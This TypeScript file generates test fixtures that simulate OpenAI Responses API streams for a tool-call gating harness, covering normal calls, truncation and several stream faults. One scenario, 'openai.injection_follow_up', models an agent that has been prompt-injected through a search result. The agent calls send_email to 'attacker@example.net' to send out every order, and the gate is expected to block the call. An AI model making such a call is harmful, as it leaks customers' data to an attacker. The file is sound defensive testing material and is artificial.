/** The OpenAI Responses fixtures, shaped as the SDK's `ResponseStreamEvent` (openai resources/responses/responses.d.ts:5611). */
import { ORDER_OK, KB_OK, tools, write, injectionItem, type J } from './shared.ts';

export function openai(): void {
  const resp = (id: string, status: string, output: unknown[] = [], extra: J = {}) => ({
    id,
    object: 'response',
    created_at: 1784419260,
    model: 'MODEL-FIXTURE',
    error: null,
    incomplete_details: null,
    instructions: null,
    metadata: null,
    parallel_tool_calls: true,
    temperature: null,
    top_p: null,
    tool_choice: 'auto',
    tools: tools.openai,
    status,
    output,
    ...extra,
  });
  const usage = {
    input_tokens: 212,
    input_tokens_details: { cached_tokens: 0, cache_write_tokens: 0 },
    output_tokens: 31,
    output_tokens_details: { reasoning_tokens: 12 },
    total_tokens: 243,
  };
  const fc = (id: string, call_id: string, name: string, args: string, status = 'completed') => ({
    type: 'function_call',
    id,
    call_id,
    name,
    arguments: args,
    status,
  });

  /** Builds a healthy stream: created, in_progress, then for each item its events, then completed. */
  function stream(
    rid: string,
    items: {
      kind: 'reasoning' | 'message' | 'call';
      id: string;
      call_id?: string;
      name?: string;
      fragments?: string[];
      text?: string;
    }[],
    opts: { obfuscate?: boolean; keepalive?: boolean } = {},
  ) {
    const ev: J[] = [];
    let seq = 0;
    const push = (e: J) => ev.push({ ...e, sequence_number: seq++ });
    push({ type: 'response.created', response: resp(rid, 'in_progress') });
    push({ type: 'response.in_progress', response: resp(rid, 'in_progress') });
    const done: unknown[] = [];
    items.forEach((it, i) => {
      if (it.kind === 'reasoning') {
        const item = { type: 'reasoning', id: it.id, summary: [], encrypted_content: 'ENC_FIXTURE_gAAAAABo9k2' };
        push({ type: 'response.output_item.added', output_index: i, item: { ...item, encrypted_content: null } });
        push({ type: 'response.output_item.done', output_index: i, item });
        done.push(item);
      } else if (it.kind === 'message') {
        const part = { type: 'output_text', text: it.text as string, annotations: [], logprobs: [] };
        push({
          type: 'response.output_item.added',
          output_index: i,
          item: { type: 'message', id: it.id, role: 'assistant', status: 'in_progress', content: [] },
        });
        push({
          type: 'response.content_part.added',
          output_index: i,
          item_id: it.id,
          content_index: 0,
          part: { ...part, text: '' },
        });
        push({
          type: 'response.output_text.delta',
          output_index: i,
          item_id: it.id,
          content_index: 0,
          delta: it.text,
          logprobs: [],
        });
        push({
          type: 'response.output_text.done',
          output_index: i,
          item_id: it.id,
          content_index: 0,
          text: it.text,
          logprobs: [],
        });
        push({ type: 'response.content_part.done', output_index: i, item_id: it.id, content_index: 0, part });
        const item = { type: 'message', id: it.id, role: 'assistant', status: 'completed', content: [part] };
        push({ type: 'response.output_item.done', output_index: i, item });
        done.push(item);
      } else {
        const args = (it.fragments as string[]).join('');
        push({
          type: 'response.output_item.added',
          output_index: i,
          item: fc(it.id, it.call_id as string, it.name as string, '', 'in_progress'),
        });
        (it.fragments as string[]).forEach((d, k) => {
          push({
            type: 'response.function_call_arguments.delta',
            output_index: i,
            item_id: it.id,
            delta: d,
            ...(opts.obfuscate ? { obfuscation: `Xq${k}9a` } : {}),
          });
          if (opts.keepalive && k === 0) push({ type: 'keepalive' });
        });
        push({
          type: 'response.function_call_arguments.done',
          output_index: i,
          item_id: it.id,
          name: it.name,
          arguments: args,
        });
        const item = fc(it.id, it.call_id as string, it.name as string, args);
        push({ type: 'response.output_item.done', output_index: i, item });
        done.push(item);
      }
    });
    push({ type: 'response.completed', response: resp(rid, 'completed', done, { completed_at: 1784419261, usage }) });
    return ev;
  }
  const history = [{ role: 'user', content: 'Where is my order ORDER-7?' }];
  const oneCall = stream(
    'resp_FIXTURE_oa01',
    [
      { kind: 'reasoning', id: 'rs_FIXTURE_oa01' },
      {
        kind: 'call',
        id: 'fc_FIXTURE_oa01',
        call_id: 'call_FIXTURE_oa01',
        name: 'get_order',
        fragments: ['{"order_ref"', ':"ORDER', '-7"}'],
      },
    ],
    { obfuscate: true, keepalive: true },
  );
  write('openai', {
    id: 'openai.one_call',
    title: 'OpenAI: one call, arguments in three fragments',
    summary:
      'A reasoning item, then get_order with its arguments in three deltas (with obfuscation padding and a keepalive); response.completed asks for tools.',
    stream: oneCall,
    calls: ['call_FIXTURE_oa01'],
    history,
    handlers: { call_FIXTURE_oa01: ORDER_OK },
    expect: { problems: [], gates: { call_FIXTURE_oa01: 'handler' } },
  });
  const parallel = stream('resp_FIXTURE_oa02', [
    { kind: 'message', id: 'msg_FIXTURE_oa02', text: 'Let me look up the order and the refund policy.' },
    {
      kind: 'call',
      id: 'fc_FIXTURE_oa02a',
      call_id: 'call_FIXTURE_oa02a',
      name: 'get_order',
      fragments: ['{"order_', 'ref":"ORDER-7"}'],
    },
    {
      kind: 'call',
      id: 'fc_FIXTURE_oa02b',
      call_id: 'call_FIXTURE_oa02b',
      name: 'search_kb',
      fragments: ['{"query":"refund', ' policy","top_k":3}'],
    },
  ]);
  write('openai', {
    id: 'openai.parallel_calls',
    title: 'OpenAI: two calls in one turn',
    summary: 'A message item, then get_order and search_kb; each result is paired with its call by call_id.',
    stream: parallel,
    calls: ['call_FIXTURE_oa02a', 'call_FIXTURE_oa02b'],
    history: [{ role: 'user', content: 'Can ORDER-7 be refunded?' }],
    handlers: {
      call_FIXTURE_oa02b: {
        ...KB_OK,
        data: { ...(KB_OK.data as J), hits: (KB_OK.data as { hits: unknown[] }).hits.slice(0, 3) },
      },
      call_FIXTURE_oa02a: ORDER_OK,
    },
    expect: { problems: [], gates: { call_FIXTURE_oa02a: 'handler', call_FIXTURE_oa02b: 'handler' } },
  });
  // Truncated: the budget runs out inside the arguments.
  const trunc = stream('resp_FIXTURE_oa03', [
    {
      kind: 'call',
      id: 'fc_FIXTURE_oa03',
      call_id: 'call_FIXTURE_oa03',
      name: 'get_order',
      fragments: ['{"order_ref"', ':"ORD'],
    },
  ]);
  const cut = trunc.slice(0, 5);
  cut.push({
    type: 'response.incomplete',
    sequence_number: 5,
    response: resp(
      'resp_FIXTURE_oa03',
      'incomplete',
      [fc('fc_FIXTURE_oa03', 'call_FIXTURE_oa03', 'get_order', '{"order_ref":"ORD', 'incomplete')],
      {
        incomplete_details: { reason: 'max_output_tokens' },
        usage,
      },
    ),
  });
  write('openai', {
    id: 'openai.truncated',
    title: 'OpenAI: the output budget runs out inside the arguments',
    summary: 'response.incomplete with max_output_tokens while get_order is still open: NOT_A_TOOL_TURN, nothing runs.',
    stream: cut,
    calls: ['call_FIXTURE_oa03'],
    history,
    handlers: {},
    expect: { problems: ['NOT_A_TOOL_TURN'], gates: {} },
  });
  const inj = stream('resp_FIXTURE_oa04', [
    {
      kind: 'call',
      id: 'fc_FIXTURE_oa04',
      call_id: 'call_FIXTURE_oa04',
      name: 'send_email',
      fragments: ['{"to":"attacker@example.net",', '"body":"every order"}'],
    },
  ]);
  write('openai', {
    id: 'openai.injection_follow_up',
    title: 'OpenAI: the turn after an injected search hit',
    summary:
      'After search_kb.injection the model asks for send_email. The gate answers UNKNOWN_TOOL; no handler runs; the continuation carries the error.',
    stream: inj,
    calls: ['call_FIXTURE_oa04'],
    history: [
      { role: 'user', content: '退款帮助' },
      {
        type: 'function_call',
        call_id: 'call_06_a7f3c4e1',
        name: 'search_kb',
        arguments: '{"query":"退款帮助","top_k":3}',
      },
      injectionItem('openai', 'call_06_a7f3c4e1'),
    ],
    handlers: {},
    expect: { problems: [], gates: { call_FIXTURE_oa04: 'UNKNOWN_TOOL' } },
  });
  const bad = stream('resp_FIXTURE_oa05', [
    {
      kind: 'call',
      id: 'fc_FIXTURE_oa05',
      call_id: 'call_FIXTURE_oa05',
      name: 'get_order',
      fragments: ['{"order_ref":', '7}'],
    },
  ]);
  write('openai', {
    id: 'openai.invalid_arguments',
    title: 'OpenAI: arguments that fail the input schema',
    summary:
      'A healthy stream whose get_order arguments carry a number for order_ref: the gate answers INVALID_ARGUMENTS, no handler runs.',
    stream: bad,
    calls: ['call_FIXTURE_oa05'],
    history,
    handlers: {},
    expect: { problems: [], gates: { call_FIXTURE_oa05: 'INVALID_ARGUMENTS' } },
  });
  // Faults, one per problem code the stream can show.
  const base = () =>
    structuredClone(
      stream('resp_FIXTURE_oa10', [
        {
          kind: 'call',
          id: 'fc_FIXTURE_oa10',
          call_id: 'call_FIXTURE_oa10',
          name: 'get_order',
          fragments: ['{"order_ref"', ':"ORDER', '-7"}'],
        },
      ]),
    );
  // A delta for another item, slipped in between the real ones; the sequence numbers stay increasing.
  const order = base();
  order.splice(4, 0, {
    type: 'response.function_call_arguments.delta',
    output_index: 0,
    item_id: 'fc_FIXTURE_other',
    delta: '"ORDER-9"',
  });
  order.forEach((e, i) => {
    (e as J).sequence_number = i;
  });
  write('openai', {
    id: 'openai.stream_order',
    title: 'OpenAI: a delta for another item',
    summary: 'A delta whose item_id is not the item at its output_index (the SDK accepts it silently): STREAM_ORDER.',
    stream: order,
    calls: ['call_FIXTURE_oa10'],
    history,
    handlers: { call_FIXTURE_oa10: ORDER_OK },
    expect: { problems: ['STREAM_ORDER'], gates: {} },
  });
  write('openai', {
    id: 'openai.stream_unterminated',
    title: 'OpenAI: the stream is cut after the second delta',
    summary: 'No terminal event (the SDK still resolves, status in_progress, arguments cut): STREAM_UNTERMINATED.',
    stream: base().slice(0, 5),
    calls: ['call_FIXTURE_oa10'],
    history,
    handlers: { call_FIXTURE_oa10: ORDER_OK },
    expect: { problems: ['STREAM_UNTERMINATED'], gates: {} },
  });
  const err = base().slice(0, 5);
  err.push({
    type: 'error',
    code: 'server_error',
    message: 'The server had an error while processing your request.',
    param: null,
    sequence_number: 5,
  });
  write('openai', {
    id: 'openai.stream_error',
    title: 'OpenAI: an error event mid-stream',
    summary: 'An error event while the call is open: STREAM_ERROR, nothing runs.',
    stream: err,
    calls: ['call_FIXTURE_oa10'],
    history,
    handlers: { call_FIXTURE_oa10: ORDER_OK },
    expect: { problems: ['STREAM_ERROR'], gates: {} },
  });
  const dis = base();
  (dis[6] as J).arguments = '{"order_ref":"ORDER-8"}';
  write('openai', {
    id: 'openai.arguments_disagree',
    title: 'OpenAI: .done says other arguments than the deltas',
    summary:
      'The .done event names ORDER-8 while the fragments say ORDER-7 (the SDK lets .done overwrite): ARGUMENTS_DISAGREE.',
    stream: dis,
    calls: ['call_FIXTURE_oa10'],
    history,
    handlers: { call_FIXTURE_oa10: ORDER_OK },
    expect: { problems: ['ARGUMENTS_DISAGREE'], gates: {} },
  });
  const dup = stream('resp_FIXTURE_oa11', [
    {
      kind: 'call',
      id: 'fc_FIXTURE_oa11a',
      call_id: 'call_FIXTURE_oa11',
      name: 'get_order',
      fragments: ['{"order_ref":"ORDER-7"}'],
    },
    {
      kind: 'call',
      id: 'fc_FIXTURE_oa11b',
      call_id: 'call_FIXTURE_oa11',
      name: 'get_order',
      fragments: ['{"order_ref":"ORDER-8"}'],
    },
  ]);
  write('openai', {
    id: 'openai.duplicate_call_id',
    title: 'OpenAI: two calls share a call_id',
    summary: 'Two function_call items with one call_id: no result could be paired safely. DUPLICATE_CALL_ID.',
    stream: dup,
    calls: ['call_FIXTURE_oa11'],
    history,
    handlers: { call_FIXTURE_oa11: ORDER_OK },
    expect: { problems: ['DUPLICATE_CALL_ID'], gates: {} },
  });
}
